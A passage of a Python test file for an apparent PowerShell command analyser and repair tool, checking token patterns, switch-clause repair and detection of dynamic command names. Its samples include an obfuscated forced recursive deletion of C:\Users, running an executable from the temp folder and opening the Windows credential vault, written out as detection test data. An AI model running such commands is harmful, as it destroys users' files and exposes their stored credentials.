    "[Windows.Security.Credentials.PasswordVault,Windows.Security.Credentials,ContentType=WindowsRuntime]::new()",
    "Get-Item Név, b; $k = 1\u212ab",
]


@requirement("S-RULE-13")
@pytest.mark.parametrize("text", _REPAIR_SAMPLES)
def test_the_repair_pass_finds_what_the_full_pattern_finds(text: str) -> None:
    """S-RULE-13: the repair's reduced token pattern matches exactly the spots the pattern with every branch does."""
    everything = ps_repair.token_pattern(rare=True, switch=True, number=True, brackets=True)
    spots = [(m.lastgroup, m.span()) for m in everything.finditer(text) if m.lastgroup not in ("open", "close")]
    needed = ps_repair.needed_branches(text)
    reduced = ps_repair.token_pattern(*needed)
    assert [(m.lastgroup, m.span()) for m in reduced.finditer(text) if m.lastgroup not in ("open", "close")] == spots
    if needed[3]:
        assert [m.span() for m in reduced.finditer(text)] == [m.span() for m in everything.finditer(text)]


@requirement("S-RULE-13")
@pytest.mark.parametrize("text", [*_REPAIR_SAMPLES, "1KB", "x 2Mb", "5 mb", "ab", "", "0x1f", "7\u212aB"])
def test_the_suffix_pre_check_never_hides_a_number_suffix(text: str) -> None:
    """S-RULE-13: `may_have_number_suffix` is false only where `HAS_NUMBER_SUFFIX` cannot match."""
    if HAS_NUMBER_SUFFIX.search(text):
        assert may_have_number_suffix(text)


@requirement("S-RULE-13")
@pytest.mark.parametrize(
    ("text", "repaired"),
    [
        ("switch ($x) { 1 {'a'} default {'b'} }", "switch ($x) { 1 {'a'};default {'b'} }"),
        ("SWITCH(1){1 {2} 3 {4}}", "SWITCH(1){1 {2};3 {4}}"),
        # An unmatched `)` brings the count below zero, where the next `{` reads as a switch body.
        (") x { 1 {2} 3 }", ") x { 1 {2};3 }"),
    ],
)
def test_switch_clauses_are_separated_as_the_full_pass_separates_them(text: str, repaired: str) -> None:
    """S-RULE-13: the repair separates switch clauses (and keeps the full pass's reading of an unmatched `)`)."""
    result = repair(text)
    assert result is not None
    assert result.text == repaired


@requirement("S-RULE-25")
@pytest.mark.parametrize(
    "command",
    [
        "$b = 'xRemove-Item'; & $b.Substring(1) -Recurse -Force C:\\Users",
        "$c = Get-Command Remove-Item; & $c.Name C:\\Users -Recurse",
        "& $env:temp.exe",
    ],
)
def test_a_member_of_a_variable_as_the_command_name_is_not_constant(command: str) -> None:
    """S-RULE-25: `& $b.Substring(1)` reads a member (PowerShell's rule), not `$b` glued to `.Substring`."""
    analysis = analyse_powershell(command)
    assert analysis.dynamic
    assert not any(o.name.endswith(".substring") for o in analysis.operations)
